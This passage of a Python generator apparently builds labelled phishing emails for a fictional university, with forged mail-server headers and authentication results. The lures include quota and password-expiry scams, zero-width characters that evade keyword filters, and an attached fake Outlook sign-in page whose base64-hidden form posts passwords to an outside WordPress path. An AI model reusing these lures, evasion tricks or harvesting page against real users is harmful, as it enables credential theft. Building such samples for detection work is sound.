        spfline = f"Received-SPF: neutral (google.com: {c.ip} is neither permitted nor denied by best guess record for domain of {mf}) client-ip={c.ip};"
    else:
        spfline = f"Received-SPF: none (google.com: {mf} does not designate permitted sender hosts) client-ip={c.ip};"
    from_part = f"{c.helo} ({c.rdns}. [{c.ip}])" if c.rdns else f"{c.helo} ([{c.ip}])"
    via = "SMTPS" if internal else "ESMTPS"
    sec = "(Google Transport Security)" if internal else \
        ("(version=TLS1_3 cipher=TLS_AES_256_GCM_SHA384 bits=256/256)" if c.tls == "TLS1_3" else
         "(version=TLS1_2 cipher=ECDHE-ECDSA-AES128-GCM-SHA256 bits=128/128)" if c.tls else "")
    if not c.tls:
        via = "ESMTP"
    mxid = f"{I.letters('mxid1', 2)}{I.num('mxid2', 1, 9)}-20020a{I.hex('mxid3', 6)}{I.hex('mxid4', 6)}{I.lower('mxid5', 3)}.{I.num('mxid6', 100, 999)}.{t.astimezone(ZoneInfo(la)).strftime('%Y.%m.%d.%H.%M.%S')}"
    lines = [
        f"Delivered-To: {rcpt}",
        f"Received: by 2002:a05:{I.hex('gr1', 4)}:{I.hex('gr2', 4)}:b0:{I.hex('gr3', 2)}:{I.hex('gr4', 4)}:{I.hex('gr5', 4)} with SMTP id {I.lower('gr6', 3)}csp{I.num('gr7', 100000, 9999999)}{I.letters('gr8', 3)};\n"
        f"        {rfc(t + timedelta(seconds=1), la, pad=True, paren=True)}",
        f"X-Google-Smtp-Source: {'AGHT+I' if when >= T('2023-07-01 00:00:00') else 'AK7set'}{I.b64('gin-src', 80)}",
        f"X-Received: by 2002:a17:{I.hex('gx1', 3)}:{I.hex('gx2', 4)}:b0:{I.hex('gx3', 3)}:{I.hex('gx4', 4)}:{I.hex('gx5', 4)} with SMTP id "
        f"{I.letters('gx6', 2)}{I.num('gx7', 1000000, 9999999)}-{I.hex('gx8', 8)}.{I.num('gx9', 1, 99)}.{int(t.timestamp() * 1000) + 713};\n"
        f"        {rfc(t + timedelta(seconds=1), la, pad=True, paren=True)}",
        f"ARC-Seal: i=1; a=rsa-sha256; t={int(t.timestamp())}; cv=none;\n        d=google.com; s={arc_sel};\n        b="
        + "\n        ".join([I.b64("gin-arcseal", 344)[:60]] + chunks(I.b64("gin-arcseal", 344)[60:], 71)),
        f"ARC-Message-Signature: i=1; a=rsa-sha256; c=relaxed/relaxed; d=google.com; s={arc_sel};\n"
        f"        h=to:subject:message-id:date:from:mime-version:dkim-signature;\n"
        f"        bh={bh(I, 'gin-arc')};\n        fh={bh(I, 'gin-fh')};\n        b="
        + "\n        ".join([I.b64("gin-arcms", 344)[:60]] + chunks(I.b64("gin-arcms", 344)[60:], 71)),
        f"ARC-Authentication-Results: i=1; mx.google.com;\n       {results}",
        f"Return-Path: <{mf}>" if mf else "Return-Path: <>",
        f"Received: from {from_part}\n        by mx.google.com with {via} id {mxid}\n        for <{rcpt}>\n"
        + (f"        {sec};\n" if sec else "") + f"        {rfc(t, la, pad=True, paren=True)}",
        spfline,
        f"Authentication-Results: mx.google.com;\n       {results}",
    ]
    return lines


def gmx_in(I: Ids, when: datetime, rcpt: str, c: Conn, webde: bool = False, junk: bool = False) -> list[str]:
    """What GMX / WEB.DE (United Internet) write on delivery."""
    site = "web.de" if webde else "gmx.net"
    mx = f"mxweb{I.num('mxn', 101, 118)}" if webde else f"mxgmx{I.num('mxn', 101, 118)}"
    mxip = "212.227.15.17" if webde else "212.227.15.9"
    nem = f"1M{I.alnum('nem1', 4)}-1{I.alnum('nem2', 14)}-00{I.alnum('nem3', 4)}"
    dk = " ".join(f"dkim={r} header.i=@{d};" for r, d, _ in c.dkim) or "dkim=none;"
    dm = f" dmarc={c.dmarc} header.from={c.from_domain};" if c.dmarc in ("pass", "fail") else ""
    lines = [
        f"Return-Path: <{c.mailfrom}>",
        f"Authentication-Results: {site}; {dk} spf={c.spf} smtp.mailfrom={c.mailfrom};{dm}",
        fold(f"Received: from {c.rdns or c.helo} ([{c.ip}]) by mx-ha.{site.replace('gmx.net', 'gmx.net')} ({mx} [{mxip}]) "
             f"with ESMTPS (Nemesis) id {nem} for <{rcpt}>; {rfc(when, 'Europe/Berlin')}"),
        f"Received-SPF: {c.spf} ({mx}: {'domain of ' + c.spf_domain + (' designates ' if c.spf == 'pass' else ' does not designate ') + c.ip + ' as permitted sender' if c.spf in ('pass', 'fail', 'softfail') else c.spf_domain + ' does not designate permitted sender hosts'}) client-ip={c.ip};\n envelope-from=<{c.mailfrom}>; helo={c.helo};",
        f"X-Envelope-From: <{c.mailfrom}>",
        f"X-Envelope-To: <{rcpt}>",
        f"X-GMX-Antispam: {'10 (Mail was recognized as spam); Detail=5D7Q89H36p5ULLF8PSLNzg==:0;' if junk else '0 (Mail was not recognized as spam); Detail=V3;'}",
        f"X-UI-Filterresults: {'junk:10' if junk else 'notjunk:1'};V03:K0:{I.b64('uif1', 11)}=:{I.b64('uif2', 120)}",
    ]
    return lines


def yahoo_in(I: Ids, when: datetime, rcpt: str, c: Conn) -> list[str]:
    host = f"atlas-production.v2.mail-prod1.omega.{I.pick('yreg', ['bf1', 'gq1', 'ne1'])}.yahoo.com"
    dk = "".join(f"\n dkim={r} header.i=@{d} header.s={s};" for r, d, s in c.dkim)
    dm = f"\n dmarc={c.dmarc}(p={c.policy}) header.from={c.from_domain};" if c.dmarc in ("pass", "fail") else ""
    return [
        f"X-Apparently-To: {rcpt}; {rfc(when)}",
        f"Return-Path: <{c.mailfrom}>",
        f"Received-SPF: {c.spf} (domain of {c.spf_domain} {'designates' if c.spf == 'pass' else 'does not designate'} {c.ip} as permitted sender)",
        f"X-YMailISG: {I.b64('ymisg', 60)}",
        f"X-Originating-IP: [{c.ip}]",
        f"Authentication-Results: {host};{dk}\n spf={c.spf} smtp.mailfrom={c.spf_domain};{dm}",
        f"X-Sonic-MF: <{c.mailfrom}>",
        f"X-Sonic-ID: {I.guid('sonic')}",
        f"Received: from {c.ip} (EHLO {c.helo})\n by 10.217.{I.num('yip1', 128, 159)}.{I.num('yip2', 1, 254)} with SMTPs\n"
        f" (version=TLS1_3 cipher=TLS_AES_128_GCM_SHA256);\n {rfc(when, pad=False)}",
    ]


def laposte_in(I: Ids, when: datetime, rcpt: str, c: Conn, spamstate: str = "OK") -> list[str]:
    vrin = f"lpn-prd-vrin{I.num('vrin', 1, 12):03d}"
    vrout = f"lpn-prd-vrout{I.num('vrout', 1, 14):03d}"
    cause = "gggruggvucftvghtrhhoucdtuddrgedv" + I.letters("vrcause", 420)
    dk = " ".join(f"dkim={r} header.d={d};" for r, d, _ in c.dkim) or "dkim=none;"
    return [
        f"Return-Path: <{c.mailfrom}>",
        f"Received: from {vrin} ({vrin}.laposte [10.128.{I.num('lp1', 60, 70)}.{I.num('lp2', 2, 250)}])\n"
        f"\tby {vrout} (Postfix) with ESMTP id 4{I.alnum('lpid', 11)}\n\tfor <{rcpt}>; {rfc(when + timedelta(seconds=1), 'Europe/Paris', paren=True)}",
        f"Received: from {vrin} (localhost [127.0.0.1])\n\tby {vrin} (Postfix) with ESMTP id 4{I.alnum('lpid2', 11)}\n"
        f"\tfor <{rcpt}>; {rfc(when, 'Europe/Paris', paren=True)}",
        f"Received: from {c.rdns or c.helo} ({c.rdns or 'unknown'} [{c.ip}])\n\tby {vrin} (Postfix) with ESMTPS id 4{I.alnum('lpid3', 11)}\n"
        f"\tfor <{rcpt}>; {rfc(when - timedelta(seconds=1), 'Europe/Paris', paren=True)}",
        f"Authentication-Results: laposte.net; {dk} spf={c.spf} smtp.mailfrom={c.spf_domain};"
        + (f" dmarc={c.dmarc} header.from={c.from_domain};" if c.dmarc in ("pass", "fail") else ""),
        f"X-VR-SrcIP: {c.ip}",
        f"X-VR-SPAMSTATE: {spamstate}",
        f"X-VR-SPAMSCORE: {0 if spamstate == 'OK' else 300}",
        "X-VR-SPAMCAUSE: " + "\n ".join(chunks(cause, 76)),
    ]


def deliver(I: Ids, when: datetime, rcpt: str, c: Conn, origin: str, body, verdict: dict | None = None) -> bytes:
    """Put the receiving server's headers around the sender-side block and render the message."""
    verdict = verdict or {}
    dom = rcpt.split("@")[1]
    trailer: list[str] = []
    if dom in (UNIV, ETU):
        top, trailer = m365_in(I, when, rcpt, c, **verdict)
    elif dom in ("outlook.com", "hotmail.com", "outlook.fr"):
        top, trailer = m365_in(I, when, rcpt, c, consumer=True, **verdict)
    elif dom in ("gmail.com", INST):
        top = google_in(I, when, rcpt, c)
    elif dom == "gmx.de":
        top = gmx_in(I, when, rcpt, c, **verdict)
    elif dom == "web.de":
        top = gmx_in(I, when, rcpt, c, webde=True, **verdict)
    elif dom == "yahoo.com":
        top = yahoo_in(I, when, rcpt, c)
    elif dom == "laposte.net":
        top = laposte_in(I, when, rcpt, c, **verdict)
    else:
        raise ValueError(dom)
    return assemble(top, origin, body, trailer)


def assemble(top: list[str], origin: str, body, trailer=()) -> bytes:
    headers = "\n".join(list(top) + [origin.strip("\n")])
    raw = mime.message(headers, body)
    if trailer:
        head, _, rest = raw.partition(b"\n\n")
        raw = head + b"\n" + "\n".join(trailer).encode("utf-8") + b"\n\n" + rest
    return raw


def m365_internal(I: Ids, sent: datetime, author: list[str], src_mbx: str, dst_mbx: str, client_ip: str = "") -> str:
    """A message from one mailbox of the university tenant to another, as the recipient's mailbox stores it."""
    ver = ms_version(sent, I, "int")
    t1 = sent + timedelta(seconds=1)
    lines = [
        fold(f"Received: from {dst_mbx} ({ipv6(I, 'dst')}) by {dst_mbx} with HTTPS; {rfc(t1)}"),
    ]
    if src_mbx != dst_mbx:
        lines.append(fold(f"Received: from {src_mbx} ({ipv6(I, 'src')}) by {dst_mbx} ({ipv6(I, 'dst')}) with Microsoft SMTP Server "
                          f"(version=TLS1_2, cipher=TLS_ECDHE_RSA_WITH_AES_256_GCM_SHA384) id {ver}; {rfc(t1)}"))
    lines += author
    lines += [
        "X-MS-Exchange-Organization-AuthAs: Internal",
        "X-MS-Exchange-Organization-AuthMechanism: 04",
        f"X-MS-Exchange-Organization-AuthSource: {src_mbx}",
        f"X-MS-Exchange-Organization-Network-Message-Id:\n {I.guid('nmid-int')}",
        "X-MS-Exchange-Organization-SCL: -1",
        "X-MS-Exchange-Organization-RecordReviewCfmType: 0",
        "x-ms-publictraffictype: Email",
        f"x-ms-traffictypediagnostic:\n {src_mbx.split('.')[0]}:EE_|{dst_mbx.split('.')[0]}:EE_",
        f"x-ms-office365-filtering-correlation-id: {I.guid('corr-int')}",
        "x-ms-exchange-organization-originalclientipaddress: " + (client_ip or f"193.52.{I.num('oc1', 10, 250)}.{I.num('oc2', 2, 250)}"),
        "x-ms-exchange-organization-originalserveripaddress: " + ipv6(I, "src"),
        "X-MS-Exchange-Organization-MessageDirectionality: Originating",
        "X-MS-Exchange-Transport-EndToEndLatency: 00:00:00.6432180",
        "X-MS-Exchange-Processed-By-BccFoldering: " + ver.rsplit(".", 1)[0] + ".000",
    ]
    return "\n".join(lines)


# --------------------------------------------------------------------------------------------
# Content helpers
# --------------------------------------------------------------------------------------------


def alt(boundary: str, plain: str, html: str, charset: str = "utf-8", enc_plain: str = "quoted-printable",
        enc_html: str = "quoted-printable") -> Multi:
    return Multi("alternative", boundary, [text(plain, "plain", enc_plain, charset), text(html, "html", enc_html, charset)])


def html_only(html: str, charset: str = "utf-8", encoding: str = "quoted-printable") -> Leaf:
    return text(html, "html", encoding, charset)


def html_doc(inner: str, lang: str = "en", head: str = "") -> str:
    return (f'<!DOCTYPE html>\n<html lang="{lang}">\n<head>\n<meta charset="utf-8">\n{head}</head>\n'
            f'<body style="font-family:Segoe UI,Arial,sans-serif;font-size:14px;color:#222">\n{inner}\n</body>\n</html>\n')


def outlook_html(paragraphs: str) -> str:
    """The HTML that Outlook for Windows / OWA writes around a short message."""
    return ('<html>\n<head>\n<meta http-equiv="Content-Type" content="text/html; charset=utf-8">\n'
            '<style type="text/css" style="display:none;"> P {margin-top:0;margin-bottom:0;} </style>\n'
            '</head>\n<body dir="ltr">\n'
            f'<div class="elementToProof" style="font-family: Calibri, Arial, Helvetica, sans-serif; font-size: 12pt; color: rgb(0, 0, 0);">\n'
            f'{paragraphs}\n</div>\n</body>\n</html>\n')


def linkify(line: str) -> str:
    """Wrap bare https:// URLs of a line in anchors, as mail clients do."""
    import re

    return re.sub(r"(https://[^ ;,<>\"]+[^ ;,<>\".])", r'<a href="\1">\1</a>', line)


def gmail_html(paragraphs: list[str]) -> str:
    inner = "".join(f"<div>{p}</div>" if p else "<div><br></div>" for p in paragraphs)
    return f'<div dir="ltr">{inner}</div>\n'


def png_text_image(lines: list[tuple[str, int, tuple[int, int, int]]], size: tuple[int, int],
                   bg=(255, 255, 255), button: tuple[str, tuple[int, int, int, int], tuple[int, int, int]] | None = None,
                   header_band: tuple[int, tuple[int, int, int]] | None = None) -> bytes:
    """A PNG with lines of text (text, font size, colour), as image-only phishing bodies are drawn."""
    from PIL import Image, ImageDraw, ImageFont

    image = Image.new("RGB", size, bg)
    draw = ImageDraw.Draw(image)
    y = 20
    if header_band:
        draw.rectangle([0, 0, size[0], header_band[0]], fill=header_band[1])
    for line, fsize, colour in lines:
        font = ImageFont.load_default(fsize)
        draw.text((30, y), line, fill=colour, font=font)
        y += int(fsize * 1.6)
    if button:
        label, box, colour = button
        draw.rectangle(box, fill=colour)
        draw.text((box[0] + 16, box[1] + 10), label, fill=(255, 255, 255), font=ImageFont.load_default(16))
    buffer = io.BytesIO()
    image.save(buffer, "PNG", optimize=False)
    return buffer.getvalue()


def qr_pdf(url: str, lines: list[str], title: str) -> bytes:
    """A one-page PDF with text and a QR code image (grey, Flate) pointing at ``url``."""
    import segno

    qr = segno.make(url, error="m", micro=False)
    scale, border = 4, 4
    matrix = [list(row) for row in qr.matrix]
    n = len(matrix) + 2 * border
    size = n * scale
    raw = bytearray()
    for y in range(size):
        my = y // scale - border
        for x in range(size):
            mx = x // scale - border
            dark = 0 <= my < len(matrix) and 0 <= mx < len(matrix) and matrix[my][mx]
            raw.append(0 if dark else 255)
    image = zlib.compress(bytes(raw), 9)
    content = ["BT", "/F1 12 Tf", "15 TL", "56 780 Td"]
    for line in lines:
        content.append(f"({line.replace(chr(92), chr(92) * 2).replace('(', chr(92) + '(').replace(')', chr(92) + ')')}) Tj T*")
    content.append("ET")
    content.append(f"q 180 0 0 180 207 330 cm /Im1 Do Q")
    stream = "\n".join(content).encode("latin-1")
    objects = files.image_page(stream, image, size, size, "FlateDecode")
    objects.append(f"<< /Title ({title}) /Producer (Skia/PDF m118) /Creator (Chromium) "
                   f"/CreationDate (D:20261116093000+00'00') >>".encode())
    return files.pdf_file(objects, 7)


SAMPLES: list[tuple[str, str, str, object]] = []


def sample(category: str, name: str, description: str):
    def register(fn):
        SAMPLES.append((category, name, description, fn))
        return fn
    return register


# --------------------------------------------------------------------------------------------
# People and sender-side helpers
# --------------------------------------------------------------------------------------------

CLAIRE = "claire.vasseur@univ-montforez.fr"
JULIEN = "julien.ferrand@univ-montforez.fr"
SOPHIE = "sophie.lambert@univ-montforez.fr"
HELENE = "helene.rousseau@univ-montforez.fr"
THOMAS = "thomas.girardin@univ-montforez.fr"
MARC = "marc.delorme@univ-montforez.fr"
AMINA = "amina.diallo@univ-montforez.fr"
LAURE = "laure.chevalier@univ-montforez.fr"
PATRICK = "patrick.nguyen@univ-montforez.fr"
ISABELLE = "isabelle.caron@univ-montforez.fr"
EMILE = "emile.garnier@univ-montforez.fr"
LUCAS = "lucas.martin@etu.univ-montforez.fr"
INES = "ines.benali@etu.univ-montforez.fr"
RAFAEL = "rafael.souza@etu.univ-montforez.fr"
CHLOE = "chloe.dumas@etu.univ-montforez.fr"
PETRA = "petra.horakova@disn-research.eu"
TOMASZ = "tomasz.wisniewski@disn-research.eu"
BEATRIZ = "beatriz.almeida@disn-research.eu"
MARKUS = "markus.steiner@disn-research.eu"
JONAS = "jonas.weber@disn-research.eu"
DAVID = "david.okoro@disn-research.eu"
CAMILLE = "camille.roux.bio@gmail.com"
ANTOINE = "antoine.fabre88@outlook.com"
MARGARET = "margaret.okafor@yahoo.com"
FELIX = "felix.brandt@gmx.de"
SABINE = "sabine.keller@web.de"
JEANNE = "jeanne.perrot@laposte.net"


def kit_author(I: Ids, sent: datetime, frm: str, to: str, subject: str, tz: str = "UTC", mailer: str = "",
               mid_domain: str = "", reply_to: str = "", extra: list[str] | None = None, mid: str = "") -> list[str]:
    """Author headers as a bulk-mailing kit (PHPMailer, a sender script, a webmail) writes them."""
    dom = mid_domain or frm.split("@")[-1].rstrip(">")
    lines = [f"From: {frm}", f"To: {to}", f"Subject: {subject}", f"Date: {rfc(sent, tz)}",
             f"Message-ID: <{mid or I.hex('kit-mid', 32)}@{dom}>"]
    if reply_to:
        lines.append(f"Reply-To: {reply_to}")
    if mailer:
        lines.append(f"X-Mailer: {mailer}")
    lines.append("MIME-Version: 1.0")
    return lines + (extra or [])


def cpanel_hops(I: Ids, sent: datetime, server: str, client_ip: str, client_helo: str, user: str, rcpt: str,
                tz: str = "America/Chicago") -> list[str]:
    """The Exim hop and AntiAbuse headers of a cPanel shared host relaying for a stolen mailbox."""
    dom = user.split("@")[1]
    return [
        f"Received: from [{client_ip}] (port={I.num('cp-port', 49152, 65000)} helo=[{client_helo}])\n"
        f"\tby {server} with esmtpsa  (TLS1.2) tls TLS_ECDHE_RSA_WITH_AES_256_GCM_SHA384\n"
        f"\t(Exim 4.96.2)\n\t(envelope-from <{user}>)\n\tid 1{I.alnum('cp-id1', 5)}-000{I.alnum('cp-id2', 3)}-{I.alnum('cp-id3', 2)}\n"
        f"\tfor {rcpt};\n\t{rfc(sent, tz)}",
        "X-AntiAbuse: This header was added to track abuse, please include it with any abuse report",
        f"X-AntiAbuse: Primary Hostname - {server}",
        f"X-AntiAbuse: Original Domain - {rcpt.split('@')[1]}",
        "X-AntiAbuse: Originator/Caller UID/GID - [47 12] / [47 12]",
        f"X-AntiAbuse: Sender Address Domain - {dom}",
        f"X-Get-Message-Sender-Via: {server}: authenticated_id: {user}",
        f"X-Authenticated-Sender: {server}: {user}",
        "X-Source: ",
        "X-Source-Args: ",
        "X-Source-Dir: ",
    ]


def ovh_hops(I: Ids, sent: datetime, client_ip: str, user: str, rcpt: str) -> tuple[list[str], str, str]:
    mo = I.num("ovh-mo", 500, 560)
    ip = f"46.105.{I.num('ovh-ip1', 32, 63)}.{I.num('ovh-ip2', 2, 250)}"
    host = f"mo{mo}.mail-out.ovh.net"
    lines = [
        f"Received: from ssl0.ovh.net (unknown [10.108.{I.num('ovh-i1', 1, 60)}.{I.num('ovh-i2', 2, 250)}])\n"
        f"\tby {host} (Postfix) with ESMTPS id 4{I.alnum('ovh-q1', 11)}\n\tfor <{rcpt}>; {rfc(sent + timedelta(seconds=1), utc_paren=True)}",
        f"Received: from {user.split('@')[1]} (unknown [{client_ip}])\n\t(Authenticated sender: {user})\n"
        f"\tby ssl0.ovh.net (Postfix) with ESMTPSA id 4{I.alnum('ovh-q2', 11)}\n\tfor <{rcpt}>; {rfc(sent, utc_paren=True)}",
        f"X-Ovh-Tracer-GUID: {I.guid('ovh-guid')}",
        f"X-Ovh-Tracer-Id: {I.num('ovh-tr', 10**18, 9 * 10**18)}",
        "X-VR-SPAMSTATE: OK",
        "X-VR-SPAMSCORE: 0",
        "X-VR-SPAMCAUSE: " + "gggruggvucftvghtrhhoucdtuddrgedv" + I.letters("ovh-cause", 60),
    ]
    return lines, ip, host


def postfix_hop(I: Ids, sent: datetime, server: str, client: str, client_ip: str, rcpt: str, tz: str = "UTC",
                auth: str = "", label: str = "pf") -> str:
    who = f"{client} ({client} [{client_ip}])" if "." in client and not client.startswith("[") else f"{client} (unknown [{client_ip}])"
    a = f"\n\t(Authenticated sender: {auth})" if auth else ""
    kind = "ESMTPSA" if auth else "ESMTPS"
    return (f"Received: from {who}{a}\n\tby {server} (Postfix) with {kind} id {I.hex(label, 10, upper=True)}\n"
            f"\tfor <{rcpt}>; {rfc(sent, tz, paren=True)}")


def ms_consumer_origin(I: Ids, sent: datetime, frm: str, to: str, subject: str, lang: str = "en-US",
                       has_attach: bool = False, reply_to: str = "") -> tuple[str, Conn]:
    """A message sent from an outlook.com / hotmail.com mailbox."""
    pod = I.pick("cons-mbx", ["DU0P190MB", "AS8P194MB", "PA4P189MB", "DB9P193MB"])
    mbx = f"{pod}{I.num('cons-mbxn', 1000, 2999)}.EURP{pod[4:7]}.PROD.OUTLOOK.COM"
    author = exchange_author(I, sent, mbx, frm, to, subject, lang=lang, has_attach=has_attach, reply_to=reply_to)
    dom = author_from_addr(author).split("@")[1]
    octet = I.num("cons-oct", 2, 250)
    origin, c = exchange_outbound(I, sent, mbx, dom, f"EUR0{I.num('cons-eur', 1, 5)}-{I.pick('cons-dc', ['AM0', 'DB8', 'VI1', 'HE1'])}-obe.outbound.protection.outlook.com",
                                  f"52.103.{I.num('cons-o3', 32, 63)}.{octet}", author, dkim_d=dom, selector="selector1", country="NL")
    return origin, c


def u_mbx(I: Ids, who: str) -> str:
    return U_MBX[int(hashlib.sha256(who.encode()).hexdigest(), 16) % len(U_MBX)]


# --------------------------------------------------------------------------------------------
# Phishing
# --------------------------------------------------------------------------------------------


@sample("phishing", "b10-phish-its-quota-compromised-edu",
        "ITS Service Desk mailbox-quota notice sent from a compromised US college Exchange Online account (victims in Bcc), "
        "button to a weebly.com page; external .edu impersonating the university's IT")
def p_its_quota(I: Ids) -> bytes:
    sent = T("2022-10-11 07:41:12")
    mbx = "BL1PR12MB5304.namprd12.prod.outlook.com"
    subject = "Mailbox Storage Limit Reached (98%) - Action Required"
    author = exchange_author(I, sent, mbx, "ITS Service Desk <kdawson@hbsu.edu>", "kdawson@hbsu.edu", subject)
    origin, c = exchange_outbound(I, sent, mbx, "hbsu.edu", "NAM12-BN8-obe.outbound.protection.outlook.com", "40.107.237.102", author)
    link = "https://owa-storage-upgrade-2022.weebly.com/"
    html = outlook_html(
        '<p>Dear User,</p><p><br></p>'
        '<p>Your mailbox has reached <b>98%</b> of its storage limit (1.96 GB / 2 GB). You may not be able to send or receive '
        'new messages until you increase your mailbox size.</p><p><br></p>'
        f'<p>To increase your storage quota at no cost, please <a href="{link}" data-auth="NotApplicable">CLICK HERE</a> '
        'and complete the verification within 24 hours.</p><p><br></p>'
        '<p>Failure to do so will result in restricted access to your mailbox.</p><p><br></p>'
        '<p>Thank you,<br>ITS Service Desk<br>Information Technology Services</p>')
    plain = ("Dear User,\n\nYour mailbox has reached 98% of its storage limit (1.96 GB / 2 GB). You may not be able to send "
             f"or receive new messages until you increase your mailbox size.\n\nTo increase your storage quota at no cost, please CLICK HERE<{link}> "
             "and complete the verification within 24 hours.\n\nFailure to do so will result in restricted access to your mailbox.\n\n"
             "Thank you,\nITS Service Desk\nInformation Technology Services\n")
    body = alt(outlook_boundary(I, mbx), plain, html)
    return deliver(I, sent + timedelta(seconds=3), CLAIRE, c, origin, body)


@sample("phishing", "b10-phish-fr-mdp-expire-zero-width",
        "French 'your password expires today' notice from a compromised plumbing company's OVH mailbox, zero-width spaces "
        "inside the keywords, link to a pages.dev clone of the university SSO carrying the victim's address")
def p_mdp_expire(I: Ids) -> bytes:
    sent = T("2023-01-17 08:02:37")
    z = "\u200b"
    user = "contact@plomberie-dubreuil.fr"
    hops, ip, host = ovh_hops(I, sent, "102.89.34.117", user, MARC)
    subject = enc(f"Votre m{z}ot de p{z}asse expire auj{z}ourd'hui")
    link = "https://univ-montforez-sso.pages.dev/?u=marc.delorme%40univ-montforez.fr"
    author = kit_author(I, sent, f"{enc('Service Informatique')} <{user}>", MARC, subject, "Europe/Paris",
                        mid_domain="plomberie-dubreuil.fr")
    html = html_doc(
        '<div style="max-width:560px;border:1px solid #ddd;padding:24px">'
        f'<p>Bonjour marc.delorme,</p>'
        f'<p>Le m{z}ot de p{z}asse de votre compte <b>marc.delorme@univ-montforez.fr</b> exp{z}ire aujourd\'hui, 17/01/2023.</p>'
        f'<p>Pour conserver le même m{z}ot de p{z}asse et éviter la suspension de votre messagerie, veuillez le confirmer ci-dessous :</p>'
        f'<p style="text-align:center"><a href="{link}" style="background:#0067b8;color:#fff;padding:10px 22px;text-decoration:none">'
        f'Conserver le m{z}ot de p{z}asse actuel</a></p>'
        '<p style="font-size:12px;color:#666">Service Informatique - Université de Montforez<br>'
        'Ce message a été envoyé automatiquement, merci de ne pas y répondre.</p></div>', "fr")
    c = Conn(ip, host, user, "pass", [], "none", "plomberie-dubreuil.fr", country="FR", lang="fr")
    origin = "\n".join(hops + author)
    return deliver(I, sent + timedelta(seconds=4), MARC, c, origin, html_only(html))


@sample("phishing", "b10-phish-gforms-account-termination",
        "Gmail 'Helpdesk' tells students to verify their account within 48 hours or lose it; the link is a Google Forms "
        "form that asks for the university username and password")
def p_gforms(I: Ids) -> bytes:
    sent = T("2022-04-05 13:18:04")
    frm = "Univ Montforez Helpdesk <helpdesk.montforez.univ@gmail.com>"
    subject = "Verify your account to avoid termination"
    origin, c = gmail_origin(I, sent, frm, "undisclosed-recipients:;", subject, True, LUCAS, tz="Africa/Lagos")
    form = "https://docs.google.com/forms/d/e/1FAIpQLSd" + I.b64url("form", 48) + "/viewform?usp=sf_link"
    plain = ("Attention Students,\n\nThe university is upgrading all student email accounts to the new Office 365 server. "
             "All students are required to verify their account by filling the form below with your correct details.\n\n"
             f"{form}\n\nAccounts not verified within 48hrs will be terminated and all emails lost.\n\n"
             "Regards,\nIT Helpdesk\nUniversity of Montforez\n")
    html = gmail_html(["Attention Students,", "", "The university is upgrading all student email accounts to the new Office 365 server. "
                       "All students are required to verify their account by filling the form below with your correct details.", "",
                       f'<a href="{form}">{form}</a>', "",
                       "Accounts not verified within 48hrs will be <b>terminated</b> and all emails lost.", "",
                       "Regards,", "IT Helpdesk", "University of Montforez"])
    body = alt(gmail_boundary(I), plain, html, "UTF-8")
    return deliver(I, sent + timedelta(seconds=2), LUCAS, c, origin, body)


@sample("phishing", "b10-phish-owa-upgrade-html-attachment",
        "Outlook Web App 'upgrade' from a stolen cPanel mailbox of a Mexican hardware shop; the attached .html is a "
        "sign-in page whose form posts (base64-hidden URL) to a compromised WordPress plugin folder")
def p_owa_html(I: Ids) -> bytes:
    sent = T("2022-06-20 14:27:51")
    user = "ventas@ferreteria-lamas.com.mx"
    server = "server214.hostgator-mx.com"
    hops = cpanel_hops(I, sent, server, "41.203.72.19", "127.0.0.1", user, SOPHIE, "America/Mexico_City")
    subject = f"OWA Upgrade Notice: Action Required For {SOPHIE}"
    author = kit_author(I, sent, f"OWA Administrator <{user}>", SOPHIE, subject, "America/Mexico_City",
                        mailer="Microsoft Outlook 16.0")
    post = "https://www.lacasadelpanblanco.com/wp-content/plugins/wpforms-lite/includes/owa/next.php"
    enc_post = base64.b64encode(post.encode()).decode()
    page = f"""<!DOCTYPE html>
<html><head><meta charset="utf-8"><title>Outlook Web App</title>
<style>body{{font-family:'Segoe UI',Tahoma;background:#f2f2f2}}.box{{width:360px;margin:80px auto;background:#fff;padding:30px}}
input{{width:100%;padding:8px;margin:6px 0;border:1px solid #999}}button{{background:#0072c6;color:#fff;border:0;padding:9px 26px}}</style></head>
<body><div class="box"><img src="data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg==" width="1" height="1">
<h2 style="font-weight:300;color:#0072c6">Outlook Web App</h2>
<p>Upgrade to OWA 2022 - sign in to continue</p>
<form id="f" method="post">
<input type="email" name="login" value="{SOPHIE}" readonly>
<input type="password" name="passwd" placeholder="Password" required>
<button type="submit">Sign in</button></form>
<p style="font-size:11px;color:#777">&copy; 2022 Microsoft</p></div>
<script>document.getElementById("f").action=atob("{enc_post}");</script>
</body></html>
"""
    plain = ("Dear user,\n\nYour Outlook Web App version is out of date. Kindly open the attached file to upgrade to OWA 2022 "
             "and avoid loss of messages and contacts.\n\nNote: accounts not upgraded by 22/06/2022 will be disabled.\n\n"
             "Regards,\nOWA Administrator\n")
    body = Multi("mixed", f"----=_NextPart_000_0012_{I.hex('owa-b', 8, upper=True)}.{I.hex('owa-b2', 8, upper=True)}", [
        text(plain, "plain", "7bit", "us-ascii"),
        attachment("text/html", "OWA_Upgrade_2022.html", page.encode()),
    ])
    c = Conn("162.241.218.40", server, user, "pass", [("pass", "ferreteria-lamas.com.mx", "default")], "none",
             "ferreteria-lamas.com.mx", country="US")
    return deliver(I, sent + timedelta(seconds=5), SOPHIE, c, "\n".join(hops + [dkim(I, "ferreteria-lamas.com.mx", "default",
                   "Content-Type:MIME-Version:Message-ID:Date:Subject:To:From:Sender:Reply-To:Cc", sent)] + author), body)


@sample("phishing", "b10-phish-fr-zimbra-ipfs",
        "French 'Zimbra account will be deactivated after the server update' notice from a freshly registered .online "
        "domain on a VPS, link to a page on the ipfs.io gateway with the victim's address in the fragment")
def p_zimbra(I: Ids) -> bytes:
    sent = T("2022-09-27 06:55:19")
    dom = "zcs-webmail-fr.online"
    user = f"noreply@{dom}"
    subject = enc("Zimbra : votre compte sera désactivé le 30/09/2022")
    cid = "bafybei" + I.alnum("zcid", 52, "abcdefghijklmnopqrstuvwxyz234567")
    link = f"https://ipfs.io/ipfs/{cid}/zimbra-connexion.html#{ISABELLE}"
    author = kit_author(I, sent, f"{enc('Messagerie Zimbra')} <{user}>", ISABELLE, subject, "Europe/Paris", mailer="PHPMailer 6.6.0 (https://github.com/PHPMailer/PHPMailer)")
    hop = postfix_hop(I, sent, f"mail.{dom}", "localhost", "127.0.0.1", ISABELLE, "UTC")
    html = html_doc(
        '<table width="600" style="border-top:4px solid #e87722;font-family:Arial"><tr><td style="padding:20px">'
